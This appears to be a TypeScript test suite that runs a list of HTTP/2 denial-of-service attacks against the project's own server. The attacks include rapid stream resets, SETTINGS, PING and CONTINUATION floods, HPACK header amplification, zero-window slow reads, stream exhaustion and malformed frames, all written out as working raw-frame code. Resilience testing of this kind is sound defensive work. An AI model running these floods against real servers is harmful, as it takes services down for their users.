import { setTimeout as delay } from "node:timers/promises";
import { expect } from "vitest";
import { flood } from "./support/clients.ts";
import { askOn, openHttp2 } from "./support/http2-client.ts";
import {
  flag,
  frame,
  frameType,
  getHeaders,
  initialWindowSize,
  literal,
  openRawHttp2,
  pour,
  resetOf,
  setting,
  windowUpdate,
} from "./support/http2-frames.ts";
import type { Attack } from "./support/judge.ts";

const whole = flag.endStream | flag.endHeaders;
/** Clients' streams have odd numbers. */
const streamId = (i: number) => 2 * i + 1;
const big = JSON.stringify({
  query:
    "{ carriers { name trackingPage numberFormats { name pattern example } } trackers(first: 250) { edges { node { id status checkpoints { id message } } } } }",
});
const asJson = (key: string) => ({ authorization: `Bearer ${key}`, "content-type": "application/json" });

export const http2: Attack[] = [
  {
    name: "requests that are taken back at once, 60,000 of them",
    async run(target) {
      const block = getHeaders("/t/none");
      const attack = async () => {
        const socket = await openRawHttp2(target);
        const piece = (i: number) => Buffer.concat([frame(frameType.headers, whole, streamId(i), block), resetOf(streamId(i))]);
        return pour(socket, 30_000, piece);
      };
      await flood(2, attack, { atOnce: 2 });
    },
  },
  {
    name: "settings by the ten thousand",
    async run(target) {
      const socket = await openRawHttp2(target);
      await pour(socket, 20_000, (i) => frame(frameType.settings, 0, 0, setting(initialWindowSize, 65_535 + (i % 2))), {
        withinMs: 2_000,
      });
      const many = Buffer.concat(Array.from({ length: 2_000 }, (_, i) => setting(initialWindowSize, 65_535 + (i % 2))));
      await pour(await openRawHttp2(target), 200, () => frame(frameType.settings, 0, 0, many), { withinMs: 1_000, perWrite: 5 });
    },
  },
  {
    name: "pings by the ten thousand from somebody who does not read the answers",
    async run(target) {
      const ping = frame(frameType.ping, 0, 0, Buffer.alloc(8));
      const attack = async () =>
        pour(await openRawHttp2(target, { isDeaf: true }), 100_000, () => ping, { withinMs: 2_000, perWrite: 1_000 });
      await flood(3, attack, { atOnce: 3 });
    },
  },
  {
    name: "empty pieces of a body, priorities and window updates without an end",
    async run(target) {
      const key = await target.newKey();
      const post = Buffer.concat([
        Buffer.from([0x83, 0x87]),
        literal(":path", "/graphql"),
        literal("authorization", `Bearer ${key}`),
        literal("content-type", "application/json"),
      ]);
      const socket = await openRawHttp2(target);
      socket.write(frame(frameType.headers, flag.endHeaders, 1, post));
      await pour(socket, 50_000, () => frame(frameType.data, 0, 1), { withinMs: 1_500, perWrite: 1_000 });
      const priority = await openRawHttp2(target);
      await pour(priority, 50_000, (i) => frame(frameType.priority, 0, streamId(i), Buffer.from([0, 0, 0, 0, 1])), {
        withinMs: 1_000,
        perWrite: 1_000,
      });
      const updates = await openRawHttp2(target);
      await pour(updates, 50_000, () => windowUpdate(0, 1), { withinMs: 1_000, perWrite: 1_000 });
      (await openRawHttp2(target)).write(
        Buffer.concat([windowUpdate(0, 0x7fffffff), windowUpdate(0, 0x7fffffff), windowUpdate(0, 0)]),
      );
    },
  },
  {
    name: "headers that are continued without an end",
    async run(target) {
      const piece = frame(
        frameType.continuation,
        0,
        1,
        Buffer.concat(Array.from({ length: 100 }, (_, i) => literal(`x-${i}`, "a".repeat(100)))),
      );
      const attack = async () => {
        const socket = await openRawHttp2(target);
        socket.write(frame(frameType.headers, flag.endStream, 1, getHeaders("/healthz")));
        return pour(socket, 5_000, () => piece, { withinMs: 2_000, perWrite: 10 });
      };
      const { answers } = await flood(4, attack, { atOnce: 4 });
      // Cut long before the fifty megabytes are through.
      for (const pieces of answers) expect(pieces).toBeLessThan(5_000);
    },
  },
  {
    name: "one long header that is named ten thousand times in few bytes",
    async run(target) {
      // Kept in the table by the first mention (index 62 from then on), a byte for each further one.
      const kept = Buffer.concat([
        Buffer.from([0x40, 1]),
        Buffer.from("x"),
        Buffer.from([0x7f, 0xd1, 0x1e]),
        Buffer.alloc(4_048, "a"),
      ]);
      const block = Buffer.concat([getHeaders("/healthz"), kept, Buffer.alloc(10_000, 0x80 | 62)]);
      const attack = async () => {
        const socket = await openRawHttp2(target);
        return pour(socket, 200, (i) => frame(frameType.headers, whole, streamId(i), block), { withinMs: 1_500, perWrite: 5 });
      };
      await flood(4, attack, { atOnce: 4 });
    },
  },
  {
    name: "large answers for somebody who opens no window to take them",
    async run(target) {
      const key = await target.newKey();
      const ask = async () => {
        const session = await openHttp2(target, { initialWindowSize: 0 });
        const answers = Promise.all(Array.from({ length: 60 }, () => askOn(session, { headers: asJson(key), body: big })));
        await Promise.race([answers, delay(3_000)]);
      };
      await flood(3, ask, { atOnce: 3 });
      await delay(500);
    },
  },
  {
    name: "5,000 streams at once on one connection, more than are allowed",
    async run(target) {
      const block = getHeaders("/t/none");
      const socket = await openRawHttp2(target, { settings: setting(initialWindowSize, 0) });
      await pour(socket, 5_000, (i) => frame(frameType.headers, whole, streamId(i), block), { withinMs: 2_000 });
      await delay(300);
    },
  },
  {
    name: "streams whose body never comes, as many as are allowed, on twenty connections",
    async run(target) {
      const key = await target.newKey();
      const post = Buffer.concat([
        Buffer.from([0x83, 0x87]),
        literal(":path", "/graphql"),
        literal("authorization", `Bearer ${key}`),
        literal("content-type", "application/json"),
      ]);
      const attack = async () => {
        const socket = await openRawHttp2(target);
        await pour(socket, 128, (i) => frame(frameType.headers, flag.endHeaders, streamId(i), post), { withinMs: 2_000 });
      };
      await flood(20, attack, { atOnce: 20 });
      await delay(1_000);
    },
  },
  {
    name: "frames that break the rules",
    async run(target) {
      const frames = [
        frame(frameType.data, 0, 0, Buffer.alloc(10)),
        frame(frameType.headers, whole, 0, getHeaders("/")),
        frame(frameType.headers, whole, 2, getHeaders("/")),
        frame(frameType.headers, whole, 1, Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff])),
        frame(frameType.headers, whole, 1, Buffer.concat([literal("Upper", "case"), getHeaders("/")])),
        frame(
          frameType.headers,
          whole,
          1,
          Buffer.concat([getHeaders("/healthz"), literal("transfer-encoding", "chunked"), literal("connection", "close")]),
        ),
        frame(frameType.headers, whole, 1, literal(":method", "GET")),
        frame(frameType.continuation, 0, 1, Buffer.alloc(10)),
        frame(frameType.settings, flag.acknowledge, 0, setting(initialWindowSize, 1)),
        frame(frameType.settings, 0, 0, setting(initialWindowSize, 0xffffffff)),
        frame(frameType.ping, 0, 0, Buffer.alloc(3)),
        frame(0xee, 0xff, 77, Buffer.alloc(100)),
        Buffer.from([0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1]),
      ];
      await flood(frames.length * 10, async (i) => (await openRawHttp2(target)).write(frames[i % frames.length]!), {
        atOnce: 20,
      });
    },
  },
];
